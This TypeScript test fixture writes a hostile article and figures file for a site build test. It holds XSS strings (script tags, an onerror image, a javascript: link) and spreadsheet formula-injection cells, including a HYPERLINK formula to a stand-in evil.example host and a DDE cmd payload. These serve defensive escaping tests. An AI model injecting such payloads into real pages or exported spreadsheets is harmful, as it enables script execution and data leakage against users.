/**
 * Hostile text in every field an author or a figures file fills (tests/build/hostile.test.ts reads the result):
 * strings that break naive templating, XML and JSON, and cells a spreadsheet would run as formulas.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const HOSTILE_TITLE = 'Tokens </script><script>alert(1)</script> & "quotes" ]]> \u202Eevil 豆包 ✅';
export const HOSTILE_TAG = '"><img src=x onerror=alert(1)>';
export const HOSTILE_AUTHOR = 'Ann &amp; <b>Bob</b>';
/** Cells a spreadsheet would run as formulas (OWASP, CSV Injection). */
export const FORMULAS = ['=HYPERLINK("https://evil.example/?leak","Click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-2+3'];

/** The article /articles/hostile/ (issue 77, two charts) and the figures file content/figures/hostile.yaml. */
export function writeHostile(dir: string): void {
  const yamlString = (s: string) => JSON.stringify(s);
  writeFileSync(
    join(dir, 'content/articles/2026-01-10-hostile.mdx'),
    `---\ntitle: ${yamlString(HOSTILE_TITLE)}\ndek: ${yamlString('A dek with <b>tags</b> & ]]>')}\npublished: 2026-01-10\nauthors: [${yamlString(HOSTILE_AUTHOR)}]\ntags: [${yamlString(HOSTILE_TAG)}]\nissue: 77\nsources:\n  - name: ${yamlString('Source </a><a href="javascript:alert(1)">')}\n    url: "https://example.org/?a=1&b=2"\n    date: 2026-01-01\nsummary: ${yamlString('One sentence with </script> in it.')}\nkeyFigures: ["hostile.value"]\n---\n\nBody with <Fig id="hostile.value" />.\n\n<Chart type="bar" title={${JSON.stringify(HOSTILE_TAG)}} labels={[${JSON.stringify(HOSTILE_TITLE)}, "豆包"]} datasets={[{ label: ${JSON.stringify(HOSTILE_AUTHOR)}, values: [1, 2] }]} />\n\n<Chart type="bar" title="Formulas" labels={${JSON.stringify(FORMULAS.slice(0, 2))}} datasets={[{ label: ${JSON.stringify(FORMULAS[2])}, values: [-5, 2] }]} />\n`,
  );
  writeFileSync(
    join(dir, 'content/figures/hostile.yaml'),
    `figures:\n  - id: hostile.value\n    label: ${yamlString(HOSTILE_TITLE)}\n    value: 1\n    unit: count\n    asOf: "2026"\n    note: ${yamlString('Note ]]> & <b>bold</b> \u202E')}\n    source:\n      name: ${yamlString(HOSTILE_TAG)}\n      url: "https://example.org/?a=1&b=2"\n      date: "2026"\n  - id: hostile.formula\n    label: ${yamlString(FORMULAS[0]!)}\n    value: -5\n    unit: count\n    asOf: "2026"\n    note: ${yamlString(FORMULAS[1]!)}\n    source:\n      name: ${yamlString(FORMULAS[3]!)}\n      url: "https://example.org/formula"\n      date: "2026"\n`,
  );
}
